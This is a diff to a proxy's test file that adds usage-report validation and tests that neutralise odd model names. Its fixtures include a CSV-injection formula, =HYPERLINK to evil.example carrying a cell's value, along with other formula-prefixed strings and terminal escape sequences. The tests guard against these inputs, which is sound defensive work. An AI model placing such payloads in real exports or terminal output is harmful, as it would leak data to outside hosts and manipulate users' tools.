@@ -112,7 +112,7 @@ describe("usage ledger in memory (no state configured)", () => {
   });
 
   test("a bad query parameter is a 400 naming it", async () => {
-    for (const [query, param] of [["?by=colour", "by"], ["?since=yesterday", "since"], ["?until=2026-13-01", "until"], ["?format=xml", "format"]] as const) {
+    for (const [query, param] of [["?by=colour", "by"], ["?since=yesterday", "since"], ["?until=2026-13-01", "until"], ["?format=xml", "format"], ["?since=2026-06-10&until=2026-06-01", "since"], ["?since=2020-01-01&until=2026-06-01", "since"], ["?since=9999d", "since"]] as const) {
       const response = await report(proxy, query);
       expect(response.status).toBe(400);
       expect(((await response.json()) as { error: { param: string } }).error.param).toBe(param);
@@ -176,6 +176,10 @@ describe("budgets and the SQLite ledger (state.path)", () => {
     expect(lines.some((l) => /^tight\s+2\s/.test(l))).toBe(true);
     expect(lines.some((l) => /^TOTAL\s+3\s/.test(l))).toBe(true);
 
+    // a period longer than a report covers (800 days) is refused, not cut short without a word
+    const long = await runProxyCommand(["usage", "--config", file, "--since", "2020-01-01"]);
+    expect(long.code).toBe(2);
+    expect(long.stderr).toContain("--since: the period may be at most 800 days");
     const csv = await runProxyCommand(["usage", "--config", file, "--by", "key,day", "--format", "csv"]);
     expect(csv.code).toBe(0);
     expect(csv.stdout.split("\n").filter((l) => l.startsWith(`tight,${today},2,`))).toHaveLength(1);
@@ -241,5 +245,66 @@ describe("budgets and the SQLite ledger (state.path)", () => {
     // written by the primary on drain
     const after = await runProxyCommand(["usage", "--config", configFile(config(path)).path, "--by", "key", "--format", "json"]);
     expect((JSON.parse(after.stdout) as { totals: { requests: number } }).totals.requests).toBe(ok);
+  });
+});
+
+describe("odd model names in the report", () => {
+  // a model name in `deployments` is free text; Azure's 404 for its deployment is still a call
+  // in the ledger. A name a client makes up (any_model) is only kept once Azure served it.
+  const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")';
+  const ESCAPED = "red\u001b[31mX\u009b2J";
+  let proxy: RunningProxy;
+  let file: string;
+  beforeAll(async () => {
+    const path = join(dir, "chosen.db");
+    file = configFile({
+      upstreams: [{ name: "east", endpoint: sim.url, api_key: sim.key, api_version: "2024-10-21", deployments: { "gpt-4o": "gpt-4o", [FORMULA]: "nowhere", "-2+3": "nowhere", "@SUM(1)": "nowhere", [ESCAPED]: "nowhere" }, any_model: true }],
+      keys: [
+        { name: "ops", key: ADMIN, admin: true },
+        { name: "team", key: TEAM },
+      ],
+      state: { path },
+    }).path;
+    proxy = await startProxy({ args: ["serve", "--config", file, "--workers", "1"] });
+    for (const model of [FORMULA, "-2+3", "@SUM(1)", ESCAPED]) {
+      const response = await chat(proxy, TEAM, "chosen", { model });
+      expect(response.status).toBe(404);
+      await response.arrayBuffer();
+    }
+  });
+  afterAll(async () => {
+    await proxy.stop();
+  });
+
+  test("CSV: a field a spreadsheet would run as a formula starts with an apostrophe, and stays one quoted field", async () => {
+    const csv = await (await report(proxy, "?by=model&format=csv")).text();
+    const fields = csv.trim().split("\n").slice(1).map((line) => line.slice(0, line.lastIndexOf(",1,0,0,0,0,0")));
+    expect(fields.sort()).toEqual([`"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`, "'-2+3", "'@SUM(1)", ESCAPED].sort());
+    for (const field of fields) expect(field).not.toMatch(/^"?[=+\-@]/);
+  });
+
+  test("table: control characters in a name are shown as \\u escapes, never sent to the terminal", async () => {
+    await proxy.stop();
+    proxy = await startProxy({ args: ["serve", "--config", file, "--workers", "1"] });
+    const out = await runProxyCommand(["usage", "--config", file, "--by", "model"]);
+    expect(out.code).toBe(0);
+    // biome-ignore lint/suspicious/noControlCharactersInRegex: the test looks for control characters
+    expect(out.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
+    expect(out.stdout).toContain("red\\u001b[31mX\\u009b2J");
+  });
+
+  test("models a client makes up (any_model) that Azure does not serve are one 'other' row, not a row each", async () => {
+    const made = Array.from({ length: 30 }, () => `made-up-${crypto.randomUUID()}`);
+    for (const model of made) {
+      const response = await chat(proxy, TEAM, "made up", { model });
+      expect(response.status).toBe(404);
+      await response.arrayBuffer();
+    }
+    const body = (await (await report(proxy, "?by=model")).json()) as { data: Array<{ model: string; requests: number }>; unpriced: string[] };
+    expect(body.data.filter((d) => d.model.startsWith("made-up-"))).toEqual([]);
+    expect(body.data.find((d) => d.model === "other")?.requests).toBe(30);
+    // one Azure did serve keeps its name, for its price
+    await usageOf(await chat(proxy, TEAM, "served", { model: "gpt-4.1" }));
+    expect(((await (await report(proxy, "?by=model")).json()) as { data: Array<{ model: string }> }).data.map((d) => d.model)).toContain("gpt-4.1");
   });
 });
